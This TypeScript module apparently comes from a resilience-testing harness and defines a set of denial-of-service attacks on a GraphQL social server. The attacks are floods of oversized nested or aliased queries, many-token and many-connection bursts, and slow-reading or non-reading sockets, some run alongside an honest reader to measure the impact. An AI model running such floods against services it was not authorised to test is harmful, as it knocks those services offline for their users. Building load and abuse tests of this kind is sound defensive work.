import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, graphql, repeat, type Strike, type Target } from '../attack.ts'
import { beside, type Honest } from '../beside.ts'
import { flood, largestPermitted } from '../flood.ts'
import { sockets, textOf, write } from '../sockets.ts'

/** A query for what is selected on the author of many posts. */
type Query = (target: Target, selection: string) => string

/** One statement answers it. */
const byStatement: Query = ({ printer }, selection) => `{ user(by: { uuid: "${printer}" }) { ${selection} } }`

/** A resolver returns it, so GraphQL.js completes the result. */
const byResolver: Query = ({ printer }, selection) =>
  `{ node(id: "${Buffer.from(`User:${printer}`).toString('base64')}") { ... on User { ${selection} } } }`

/** Leaves over pages within pages. */
const nested = (size: number, leaves: string) =>
  `posts(first: 100) { nodes { author { posts(first: ${size}) { nodes { ${leaves} } } } } }`

const flags = repeat(49, (index) => `f${index}: locked`)

/** The largest permitted request for these leaves. */
async function largest(target: Target, query: Query, leaves: string) {
  const request = (size: number) => graphql(query(target, nested(size, leaves)), target.token)
  const size = await largestPermitted(target, 100, request)
  return { request: request(size), note: `100 × ${size} posts` }
}

/** Sends the largest permitted request for these leaves again and again on so many connections. */
function floodOfLargest(connections: number, query = byStatement, leaves = 'content'): Attack['prepare'] {
  return async (target) => {
    const { request, note } = await largest(target, query, leaves)
    return { strike: flood(target, connections, () => request), note }
  }
}

/** A query for 100 posts of emoji, so many times. */
const paintings = ({ painter }: Target, times: number) =>
  `{ ${repeat(times, (index) => `a${index}: user(by: { uuid: "${painter}" }) { posts(first: 100) { nodes { content } } }`)} }`

/** How many times they are permitted. */
const mostPaintings = (target: Target) =>
  largestPermitted(target, 50, (times) => graphql(paintings(target, times), target.token))

/** Sends that query on so many connections, with these tokens in turn. */
const floodOfPaintings = (target: Target, connections: number, times: number, tokens = target.tokens) =>
  flood(target, connections, (nth) => graphql(paintings(target, times), tokens[nth % tokens.length]))

/** How many of them take nearly 1 MB. */
const mediumPaintings = 4

/** A timeline of usual size, whose answer could be large. */
const usualTimeline = '{ homeTimeline(first: 100) { nodes { content replies(first: 25) { nodes { uuid content } } } } }'

/** Another account reads that timeline four times a second at most. */
const readsTimelines = ({ reader }: Target): Honest => ({
  name: 'timelines of 100 posts with up to 25 replies each',
  request: graphql(usualTimeline, reader),
  pause: 250,
})

/** How much a slow reader reads at a time, and how long it pauses, in milliseconds. */
const slowly = { bytes: 16_384, pause: 100 } as const

/** Attacks by what is answered. */
export const largeAnswerAttacks: readonly Attack[] = [
  {
    row: '8',
    name: 'texts',
    about: '4 aliases of content over 100 × 100 posts, four at once',
    prepare: (target) => ({
      strike: flood(target, 4, () =>
        graphql(byStatement(target, nested(100, 'a: content b: content c: content d: content')), target.token),
      ),
    }),
  },
  {
    row: '8',
    name: 'texts-permitted',
    about: 'the largest answers that are permitted, on ten connections',
    prepare: floodOfLargest(10),
  },
  {
    row: '8',
    name: 'emoji',
    about: 'four accounts read the largest answers of emoji that are permitted, on 32 connections',
    prepare: async (target) => {
      const times = await mostPaintings(target)
      return { strike: floodOfPaintings(target, 32, times), note: `${times} × 100 posts` }
    },
  },
  {
    row: '8',
    name: 'emoji-of-two-sizes',
    about: 'the same on 8 connections, and answers of nearly 1 MB on 80 more',
    prepare: async (target) => {
      const times = await mostPaintings(target)
      const large = floodOfPaintings(target, 8, times)
      const medium = floodOfPaintings(target, 80, mediumPaintings)
      const both: Strike = async (until, tally) => {
        await Promise.all([large(until, tally), medium(until, tally)])
        return undefined
      }
      const note = `${times} × 100 and ${mediumPaintings} × 100 posts`
      return { strike: beside(target, readsTimelines(target), both), note }
    },
  },
  {
    row: '8',
    name: 'emoji-of-newcomers',
    about:
      'accounts that have done nothing before read the largest answers of emoji that are permitted, again and again',
    prepare: async (target) => {
      const { newcomers } = target
      const times = await mostPaintings(target)
      const large = floodOfPaintings(target, newcomers.length, times, newcomers)
      const note = `${newcomers.length} accounts, ${times} × 100 posts`
      return { strike: beside(target, readsTimelines(target), large), note }
    },
  },
  {
    row: '8',
    name: 'texts-resolved',
    about: 'the largest texts that resolvers may return, on ten connections',
    prepare: floodOfLargest(10, byResolver),
  },
  {
    row: '8',
    name: 'flags',
    about: '49 aliases of a flag, as often as permitted, on ten connections',
    prepare: floodOfLargest(10, byStatement, flags),
  },
  {
    row: '8',
    name: 'flags-resolved',
    about: '49 aliases of a flag, as often as resolvers may return them, on ten connections',
    prepare: floodOfLargest(10, byResolver, flags),
  },
  {
    row: '8',
    name: 'flags-piled',
    about: 'the same, on 400 connections',
    prepare: floodOfLargest(400, byResolver, flags),
  },
  {
    row: '8',
    name: 'unread',
    about: 'the largest answers that are permitted, on 30 sockets that do not read',
    prepare: async (target) => {
      const { request, note } = await largest(target, byStatement, 'content')
      const strike = sockets(target, 30, async (socket, until, tally) => {
        while (performance.now() < until) {
          await write(socket, textOf(request))
          tally.answered += 1
          await sleep(500)
        }
      })
      return { strike, note }
    },
  },
  {
    row: '8',
    name: 'slow-reading',
    about: 'the largest answers that are permitted, on 30 sockets that read 160 KB/s',
    prepare: async (target) => {
      const { request, note } = await largest(target, byStatement, 'content')
      const strike = sockets(target, 30, async (socket, until, tally) => {
        await write(socket, textOf(request))
        tally.answered += 1
        while (performance.now() < until && !socket.destroyed) {
          socket.read(slowly.bytes)
          await sleep(slowly.pause)
        }
      })
      return { strike, note }
    },
  },
]
